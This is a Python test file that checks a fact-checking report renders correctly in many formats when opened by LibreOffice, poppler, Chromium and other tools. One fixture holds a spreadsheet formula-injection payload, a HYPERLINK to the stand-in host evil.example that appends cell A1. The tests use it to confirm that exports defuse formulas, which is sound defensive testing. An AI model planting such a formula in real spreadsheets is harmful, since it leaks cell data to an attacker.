"""The sample article worked through, in every format there is: each is opened by programs that we did not write."""

import csv
import hashlib
import io
import json
import re
import subprocess
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docx
import jsonschema
import openpyxl
import pypdfium2
import pytest
from markdown_it import MarkdownIt
from pyld import jsonld
from warcio.archiveiterator import ArchiveIterator

import resources
from db.store import Store
from factcheck.attribution import Source
from factcheck.highlights import in_reading_order
from factcheck.model import Claim, Record
from factcheck.report import Format, Report, render
from factcheck.text.fold import fold_text
from tests import worked

SECONDS = 240
WORD = re.compile(r"\w+")
BLOCKS = r"dt|dd|div|p|li|h\d|td|th|section|text|figcaption|blockquote"
ISOLATES = re.compile("[\u202a-\u202e\u2066-\u2069]")
INVISIBLE = re.compile("[\u200b-\u200f\u00ad\ufeff]")
PAGE = "<!doctype html><p>بيان الوزارة: The deficit reached 3%.</p>".encode()
FORMULA = '=HYPERLINK("https://evil.example/"&A1;"انقر")'


@dataclass(frozen=True)
class Written:
    """The worked desk's article, and its report in every format, in one language, in a folder."""

    record: Record
    language: str
    folder: Path

    def path(self, format: Format) -> Path:
        return self.folder / f"{format.value}{format.suffix}"

    def content(self, format: Format) -> bytes:
        return self.path(format).read_bytes()

    @property
    def named(self) -> list[Source]:
        """The sources that some chain names; their kin are in the data alone."""
        hops = {hop.source for hop in self.record.hops}
        return [source for source in self.record.sources if source.id in hops]

    @property
    def claims(self) -> list[Claim]:
        return in_reading_order(self.record.claims, self.record.version.id)


@pytest.fixture(scope="session", params=["ar", "en"])
def written(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Written:
    folder = tmp_path_factory.mktemp(f"formats-{request.param}")
    with Store(":memory:", "ليلى") as store:
        article = worked.work(store)
        first, second, *_ = store.claims.of(article)
        item = next(iter(store.dossiers.of(next(
            claim.id for claim in store.claims.of(article) if store.evidence.of(claim.id)
        )).evidence))  # fmt: skip
        store.snapshots.add_file(item.id, "بيان.html", "text/html", PAGE)
        store.claims.set_note(first.id, FORMULA)
        store.claims.set_wording(second.id, "صياغة بحروف 𝒜 😀 وتشكيلٍ كامِلٍ")
        record = store.articles.record(article)
        histories = (store.dossiers.history(record),)
        report = Report((record,), request.param, "2026-11-23T08:00:00.000Z", "ليلى", histories=histories,
                        names_protected=True)  # fmt: skip
        found = Written(record, request.param, folder)
        for format in Format:
            found.path(format).write_bytes(render(report, format))
        return found


@pytest.fixture(scope="session")
def office(written: Written) -> Path:
    """A folder with what LibreOffice makes of our documents and tables."""
    out = written.folder / "office"
    profile = f"-env:UserInstallation={written.folder.as_uri()}/profile"
    for target, formats, how in (
        ("pdf", [Format.DOCX, Format.XLSX], ()),
        ("txt:Text (encoded):UTF8", [Format.DOCX], ()),
        # Of a byte order mark only LibreOffice's dialog takes notice; here it is told: comma, quotation mark, UTF-8.
        ("xlsx:Calc MS Excel 2007 XML", [Format.CSV], ("--infilter=CSV:44,34,76,1",)),
        ("csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1", [Format.XLSX], ()),
    ):
        files = [str(written.path(format)) for format in formats]
        done = subprocess.run(
            ["soffice", "--headless", profile, *how, "--convert-to", target, "--outdir", str(out), *files],
            capture_output=True, check=False, timeout=SECONDS,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
    return out


def words(text: str) -> list[str]:
    # Isolates stand between words as spaces do.
    return WORD.findall(fold_text(INVISIBLE.sub("", ISOLATES.sub(" ", text))))


def share(wanted: str, found: str) -> float:
    """How many of the words, each as often as it stands, are found."""
    asked, there = Counter(words(wanted)), Counter(words(found))
    return (asked & there).total() / (asked.total() or 1)


def tells(text: str, written: Written, least: float = 0.985) -> None:
    """Hold that a text has the article's words and the claims', and what the report is for."""
    assert share(written.record.version.text, text) >= least
    assert share("\n".join(claim.wording for claim in written.claims), text) >= least
    for source in written.named:
        assert share(source.name(written.language), text) >= least, source


# PDF: poppler and pdfium


@pytest.mark.parametrize("format", [Format.PDF, Format.PDF_A])
def test_poppler_and_pdfium_read_the_document(written: Written, format: Format) -> None:
    path = written.path(format)
    done = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True, timeout=SECONDS)
    tells(done.stdout.decode(), written)
    with pypdfium2.PdfDocument(path) as opened:
        tells("\n".join(page.get_textpage().get_text_range() for page in opened), written)
    about = subprocess.run(["pdfinfo", str(path)], capture_output=True, check=True, timeout=SECONDS).stdout.decode()
    assert re.search(r"Tagged:\s+yes", about)
    assert re.search(r"Encrypted:\s+no", about)


# Office: LibreOffice, python-docx, openpyxl


def test_libreoffice_and_python_docx_read_the_document(written: Written, office: Path) -> None:
    tells(office.joinpath("docx.txt").read_text("utf-8-sig"), written, 0.97)
    opened = docx.Document(str(written.path(Format.DOCX)))
    runs = (element.text or "" for element in opened.element.iter() if element.tag.endswith("}t"))
    tells("\n".join(runs), written, 0.9)
    with pypdfium2.PdfDocument(office / "docx.pdf") as printed:
        assert len(printed) >= 3


def test_libreoffice_and_openpyxl_read_the_workbook(written: Written, office: Path) -> None:
    book = openpyxl.load_workbook(written.path(Format.XLSX))
    held = [[cell for row in sheet.iter_rows() for cell in row] for sheet in book]
    assert all(cell.data_type != "f" for cells in held for cell in cells)
    texts = {str(cell.value) for cells in held for cell in cells}
    assert {claim.wording for claim in written.claims} <= texts
    assert {source.name(written.language) for source in written.named} <= texts
    assert all(bool(sheet.sheet_view.rightToLeft) is (written.language == "ar") for sheet in book)
    [table] = office.glob("xlsx*.csv")
    rows = list(csv.reader(io.StringIO(table.read_text("utf-8-sig"), newline="")))
    cells = {cell for row in rows for cell in row}
    assert {claim.wording for claim in written.claims} <= cells


def test_libreoffice_reads_the_table_as_text(written: Written, office: Path) -> None:
    """Opened as by a double click: Arabic is Arabic, and no cell is a formula."""
    sheet = openpyxl.load_workbook(office / "csv.xlsx").active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row)
    names = [cell.value for cell in rows[0]]
    table = [dict(zip(names, (cell.value for cell in row), strict=True)) for row in rows[1:]]
    assert [row["wording"] for row in table] == [claim.wording for claim in written.claims]
    assert [row["quote"] for row in table] == [claim.passage.quote for claim in written.claims]
    assert [int(row["start"]) for row in table] == [claim.passage.start for claim in written.claims]
    assert {row["note"] for row in table} >= {f"'{FORMULA}"}


# Pages and pictures: Chromium; Markdown: another's processor


def in_chromium(path: Path, folder: Path) -> str:
    done = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder / 'chromium'}",
         "--virtual-time-budget=2000", "--dump-dom", path.as_uri()],
        capture_output=True, check=False, timeout=SECONDS,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done.stdout.decode()


def test_chromium_shows_the_page(written: Written) -> None:
    page = in_chromium(written.path(Format.HTML), written.folder)
    assert f'lang="{written.language}"' in page
    assert "<script" not in page
    # The numbers of claims stand between the words, and a mark may end within one.
    blocks = re.sub(rf"(?s)<(style|title)\b.*?</\1>|</?(?:{BLOCKS})\b[^>]*>", " ", page)
    tells(re.sub(r"<[^>]+>", "", re.sub(r"<sup.*?</sup>", "", blocks)), written, 0.97)


def test_chromium_draws_the_graph(written: Written) -> None:
    drawn = in_chromium(written.path(Format.SVG), written.folder)
    text = " ".join(re.findall(r">([^<>]+)<", drawn))
    shown = sum(share(source.name(written.language), text) for source in written.named)
    assert shown >= 0.9 * len(written.named)


def test_another_s_markdown_shows_the_text(written: Written) -> None:
    html = MarkdownIt("commonmark").enable("table").render(written.content(Format.MARKDOWN).decode())
    assert "<script" not in html
    tells(re.sub(r"<[^>]+>", " ", html), written, 0.97)


# Data: a schema validator, a JSON-LD processor, a reader of web archives, unzip


def test_a_schema_validator_accepts_the_data(written: Written) -> None:
    tree = json.loads(written.content(Format.JSON))
    schema = json.loads(resources.path("report", "report.schema.json").read_text("utf-8"))
    jsonschema.Draft202012Validator(schema).validate(tree)
    [record] = tree["records"]
    assert [claim["wording"] for claim in record["claims"]] == [claim.wording for claim in written.record.claims]


def test_a_processor_expands_the_linked_data(written: Written) -> None:
    def load(url: str, options: object) -> dict[str, Any]:
        base = "https://schema.org/" if "schema.org" in url else "http://www.w3.org/ns/oa#"
        context = {"@vocab": base, "id": "@id", "type": "@type"}
        return {"contextUrl": None, "documentUrl": url, "document": {"@context": context}}

    options = {"documentLoader": load, "base": "https://desk.example/report"}
    [page] = jsonld.expand(json.loads(written.content(Format.ANNOTATIONS)), options)
    told = json.dumps(page, ensure_ascii=False)
    assert all(json.dumps(claim.passage.quote, ensure_ascii=False) in told for claim in written.claims)
    reviews = jsonld.expand(json.loads(written.content(Format.CLAIMREVIEW)), options)
    rated = [claim for claim in written.claims if claim.rating]
    assert [one["https://schema.org/claimReviewed"][0]["@value"] for one in reviews] == [one.wording for one in rated]
    assert len(json.loads(written.content(Format.CSL))) == len(written.record.evidence)


def test_a_reader_of_web_archives_finds_the_copies_to_the_byte(written: Written) -> None:
    kept = {original.sha256 for original in written.record.originals}
    found = {}
    with written.path(Format.WARC).open("rb") as archive:
        for record in ArchiveIterator(archive, check_digests="raise"):
            content = record.content_stream().read()
            if record.rec_type in {"response", "resource"}:
                found[hashlib.sha256(content).hexdigest()] = content
            elif record.rec_type == "metadata":
                told = dict(line.split(": ", 1) for line in content.decode().splitlines() if line)
                assert told["sha256"] in found
    assert set(found) == {snapshot.sha256 for snapshot in written.record.snapshots} <= kept
    assert PAGE in found.values()


def test_unzip_and_sha256sum_agree_with_the_manifest(written: Written) -> None:
    folder = written.folder / "unpacked"
    subprocess.run(
        ["unzip", "-q", "-o", str(written.path(Format.ISNAD)), "-d", str(folder)], check=True, timeout=SECONDS
    )
    manifest = json.loads(folder.joinpath("manifest.json").read_bytes())
    sums = "".join(f"{said['sha256']}  {name}\n" for name, said in manifest["files"].items())
    subprocess.run(["sha256sum", "--check", "--strict", "--quiet"], input=sums.encode(), cwd=folder, check=True)
    for name in written_names(written.path(Format.ISNAD)):
        assert folder.joinpath(name).is_file()
    assert folder.joinpath("history.jsonl").stat().st_size > 1000


def written_names(path: Path) -> Iterator[str]:
    with zipfile.ZipFile(path) as parts:
        yield from parts.namelist()


def test_every_format_is_opened_here() -> None:
    here = Path(__file__).read_text("utf-8")
    assert all(f"Format.{format.name}" in here for format in Format)
